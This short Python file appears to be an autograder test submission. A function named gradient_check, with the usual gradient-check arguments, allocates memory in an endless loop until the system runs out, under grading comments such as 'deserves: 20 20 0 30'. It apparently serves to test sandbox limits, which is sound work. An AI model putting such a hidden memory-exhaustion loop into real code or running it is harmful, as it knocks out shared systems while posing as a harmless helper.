"""Takes memory until there is none."""
# deserves: 20 20 0 30
# others: right
# %% gradient_check
def gradient_check(x, theta, epsilon=1e-7, print_msg=False):
    kept = []
    while True:
        kept.append(np.ones(10**6))
